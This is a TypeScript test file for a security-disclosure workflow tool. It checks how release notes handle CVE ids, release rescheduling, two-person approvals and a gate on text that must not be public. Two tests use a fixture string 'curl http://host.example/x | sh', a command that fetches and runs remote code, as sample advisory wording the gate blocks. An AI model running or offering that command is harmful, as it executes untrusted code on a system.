import { describe, expect, it } from 'vitest'
import { CveId, isCveKept, later, outlook } from '../../src/index.ts'
import type { PersonRequest } from '../../src/index.ts'
import type { MultiCaseScenario } from '../fixtures/multi-case-scenario.ts'
import { DATE, deliverMails, ONE, prenotifiedRelease, TWO } from '../fixtures/multi-case-scenario.ts'
import { ana, ben, BLOB, CASE, DAY, HOUR, OTHER_HASH, person, RELEASE, Scenario } from '../fixtures/scenario.ts'

const ID = CveId.parse('CVE-1900-0042')
const notes: PersonRequest = { verb: 'release.notes', case: CASE }
const set: PersonRequest = { verb: 'cve.set', case: CASE, cve: ID }
const shown = { digest: OTHER_HASH, blob: BLOB }

function planned(): Scenario {
  const scenario = new Scenario().untilReady()
  scenario.does({ verb: 'release.plan', case: CASE, at: RELEASE }, person(ana))
  return scenario
}

const given = ({ log }: Scenario) => log.flatMap(({ event }) => (event.type === 'ReleaseNotesGiven' ? event.cases : []))

function isKept({ world }: Scenario): boolean {
  if (world.case === undefined) throw new Error('there is no case')
  return isCveKept(world.case, world.release)
}

describe('the release notes that the releaser gets before the build', () => {
  it('name the CVE id of the case', () => {
    const scenario = planned()
    scenario.does(set, person(ana))
    scenario.does(notes, person(ana))
    expect([given(scenario), isKept(scenario)]).toEqual([[{ case: CASE, cve: ID }], false])
  })

  it('are frozen: a CVE id that arrives later is kept, and changes neither the notes nor an approval', () => {
    const scenario = planned()
    scenario.does(notes, person(ana))
    scenario.does({ verb: 'cve.request', case: CASE }, person(ana))
    scenario.does({ verb: 'prenotify', case: CASE, at: RELEASE, shown }, person(ana))
    expect(scenario.does(set, person(ana))).toEqual(['CveAssigned'])
    expect(scenario.world.case?.cve).toMatchObject({ id: ID, kept: 'requested' })
    expect(scenario.does({ verb: 'approve', case: CASE, shown }, person(ben))).toContain('PrenotificationQueued')
    expect(scenario.does(notes, person(ana))).toEqual([])
    expect([given(scenario), isKept(scenario)]).toEqual([[{ case: CASE }], true])
  })

  it('are no longer frozen when the release moves to another day, because it is built again', () => {
    const scenario = planned()
    scenario.does(notes, person(ana))
    scenario.does(set, person(ana))
    expect(isKept(scenario)).toBe(true)
    scenario.does({ verb: 'release.move', case: CASE, at: later(RELEASE, 7 * DAY), shown }, person(ana))
    if (scenario.world.case?.approvals.some(({ status }) => status === 'open') === true)
      scenario.does({ verb: 'approve', case: CASE, shown }, person(ben))
    expect(isKept(scenario)).toBe(false)
    scenario.does(notes, person(ana))
    expect(given(scenario).at(-1)).toEqual({ case: CASE, cve: ID })
  })

  it.each([
    ['to another hour of its day', later(DATE, HOUR)],
    ['to the same time, which takes back an approval', DATE],
  ])('stay frozen when the release moves %s, because it is not built again', (_, at) => {
    const scenario = deliverMails(prenotifiedRelease())
    scenario.does({ verb: 'release.notes', case: ONE }, person(ana))
    scenario.now = later(DATE, -HOUR)
    scenario.request({ verb: 'disclose', case: ONE }).approve(ONE)
    const { notes: before, ahead } = scenario.releaseState()
    expect(ahead).toBeDefined()
    expect(scenario.does({ verb: 'release.move', case: ONE, at }, person(ana))).toEqual(['ReleaseRescheduled'])
    expect(scenario.releaseState()).toMatchObject({ at, notes: before })
    expect(scenario.releaseState().ahead).toBeUndefined()
  })

  it('are not given while a line in them must not be public, unless two people allow it', () => {
    const scenario = planned()
    const impact = 'PoC: curl http://host.example/x | sh'
    scenario.happens(CASE, { type: 'AdvisoryDrafted', component: 'the loader', impact })
    expect(scenario.refused(notes, person(ana))).toMatchObject({ gate: 'wording' })
    scenario.does({ verb: 'waive', case: CASE, rule: 'wording', reason: 'It is public.', shown }, person(ana))
    scenario.does({ verb: 'approve', case: CASE, shown }, person(ben))
    expect(scenario.does(notes, person(ana))).toEqual(['ReleaseNotesGiven'])
  })

  it('never name an id of a test instance', () => {
    const scenario = planned()
    scenario.does({ ...set, reserved: { test: true } }, person(ana))
    scenario.does(notes, person(ana))
    expect(given(scenario)).toEqual([{ case: CASE }])
  })
})

describe('release notes that describe a case which left the release', () => {
  const give: PersonRequest = { verb: 'release.notes', case: ONE }
  const drop = { verb: 'release.drop', case: TWO, reason: 'the fix breaks 4.2' } as const
  const disclose = { verb: 'disclose', case: ONE } as const
  const warning = `The releaser has release notes that describe ${TWO}: do not publish any build that contains these notes.`
  const next = (scenario: MultiCaseScenario) =>
    outlook(scenario.policy, scenario.worldAt(ONE), scenario.now)?.next ?? expect.fail('no next action')

  function given(): MultiCaseScenario {
    const scenario = deliverMails(prenotifiedRelease())
    scenario.does(give, person(ana))
    return scenario
  }

  it('are named before the case is taken out, and before the rest is published', () => {
    const scenario = given()
    expect(scenario.preview(drop).sentences).toContain(warning)
    scenario.request(drop).approve(TWO)
    scenario.now = DATE
    expect(scenario.preview(disclose).sentences).toContain(warning)
    scenario.does(give, person(ana))
    expect(scenario.preview(disclose).sentences).not.toContain(warning)
  })

  it('are named before a publication that leaves the case out', () => {
    const scenario = given()
    scenario.now = DATE
    expect(scenario.preview(disclose).sentences).not.toContain(warning)
    scenario.request(drop)
    expect(scenario.preview(disclose).sentences).toContain(warning)
  })

  it('are not named if the notes were never given', () => {
    const scenario = deliverMails(prenotifiedRelease())
    expect(scenario.preview(drop).sentences.join(' ')).not.toContain('release notes')
  })

  it('must be given again next, without the case', () => {
    const scenario = given()
    expect(next(scenario)).toMatchObject({ verb: 'disclose' })
    scenario.request(drop).approve(TWO)
    deliverMails(scenario)
    expect(next(scenario)).toMatchObject({
      action: `redo the release notes, this time without ${TWO}`,
      verb: 'release.notes',
      owner: 'Ana',
    })
    expect(scenario.does(give, person(ana))).toEqual(['ReleaseNotesGiven'])
    expect(next(scenario)).toMatchObject({ verb: 'disclose' })
  })

  it('are not given again before a sentence in them that must not be public is corrected', () => {
    const scenario = given()
    scenario.request(drop).approve(TWO)
    deliverMails(scenario)
    const impact = 'PoC: curl http://host.example/x | sh'
    scenario.happens(ONE, { type: 'AdvisoryDrafted', component: 'the loader', impact })
    expect(scenario.refused(give, person(ana))).toMatchObject({ gate: 'wording' })
    expect(next(scenario)).toMatchObject({ verb: 'advisory' })
  })
})
